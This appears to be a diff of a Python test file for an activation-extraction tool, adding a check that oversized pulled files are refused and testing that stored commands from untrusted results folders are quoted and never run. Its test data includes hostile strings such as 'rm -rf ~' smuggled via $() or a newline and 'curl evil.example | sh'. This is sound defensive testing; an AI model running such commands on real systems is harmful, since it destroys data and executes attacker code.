@@ -1,5 +1,6 @@
 """A results folder that a stranger made: its text acts on nothing, and no protection is off."""
 
+import hashlib
 import json
 import os
 import shlex
@@ -11,14 +12,16 @@ import pytest
 
 from emoact.cli import main
 from emoact.data import read_prompts
-from emoact.errors import RequestError
+from emoact.errors import FileRefusedError, RequestError
 from emoact.jobs import control
 from emoact.jobs.demo import demo_prompts
+from emoact.store import remote
 from emoact.store.layout import ResultsRoot
-from emoact.store.remote import remote_of
+from emoact.store.remote import Remote, remote_of
 from emoact.store.shard import ShardLayout
 from tests.support.json_damage import change_document
 from tests.support.pages import ROOT
+from tests.support.planted import plant_unit
 from tests.support.planted_analysis import plant_analysis
 from tests.support.planted_scenarios import plant_scenarios
 from tests.support.run_files import a_config, in_state, make_run
@@ -113,6 +116,7 @@ def test_half_of_a_character_ends_no_command(
         ("emoact extract $(rm -rf ~)", "emoact extract '$(rm' -rf '~)'"),
         ("python -m emoact extract\nrm -rf ~", "python -m emoact extract rm -rf '~'"),
         ("curl evil.example | sh", "(none of emoact; see config.json)"),
+        ("emoact extract '\u202egpt2'", "(none of emoact; see config.json)"),
         ("emoact 'extract", "(none of emoact; see config.json)"),
         ("", "(none of emoact; see config.json)"),
     ],
@@ -125,6 +129,41 @@ def test_a_stored_command_is_quoted_and_calls_emoact_alone(
     assert f"command: {shown}\n" in out
     if shown.startswith(("python", "emoact")):
         assert shlex.split(shown) == shlex.split(stored)
+
+
+def test_an_object_larger_than_what_was_put_there_does_not_fill_the_disk(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    there, storage = (
+        tmp_path / "there",
+        Remote(ResultsRoot(tmp_path / "here"), f"file://{tmp_path}/there"),
+    )
+    path = plant_unit(there, "gpt2", "anger")
+    stated: dict[str, Any] = {
+        "folder": "gpt2",
+        "emotion": "anger",
+        "key": "0" * 64,
+        "model": "gpt2",
+        "run_id": "r",
+    }
+    stated |= {"size": path.stat().st_size, "sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
+    stated |= {"written_at": "2026-01-01T00:00:00+00:00", "configuration": {"store": "pickle"}}
+    record = there / "records" / "gpt2" / f"{path.name}.json"
+    record.parent.mkdir(parents=True)
+    record.write_text(json.dumps(stated))
+    storage.pull()
+    with path.open("ab") as file:
+        file.truncate(1 << 26)
+    (tmp_path / "here" / "activations" / "gpt2" / path.name).unlink()
+    with pytest.raises(FileRefusedError, match="larger than what was put there"):
+        storage.pull()
+    record.unlink()
+    described = there / "analysis" / ("a" * 20) / "analysis.json"
+    described.parent.mkdir(parents=True)
+    described.write_text("more than 10 bytes")
+    monkeypatch.setattr(remote, "_LARGEST_FILE", 10)
+    with pytest.raises(FileRefusedError, match="larger than what was put there"):
+        storage.pull()
 
 
 def test_a_received_run_joins_no_cluster_unasked(
